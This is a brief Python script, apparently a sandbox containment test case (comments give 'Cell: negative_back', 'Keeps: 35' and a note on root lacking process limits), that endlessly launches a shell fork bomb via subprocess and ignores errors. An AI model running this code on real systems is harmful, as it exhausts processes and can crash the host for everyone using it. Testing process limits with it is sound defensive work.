# Tries: Start processes without end in a shell, again and again.
# Cell: negative_back
# Keeps: 35
# Fallback: contained as root alone: without a user id of its own, nothing limits how many processes there are

import subprocess

while True:
    try:
        subprocess.run(["sh", "-c", "f() { f | f & }; f"])
    except OSError:
        pass
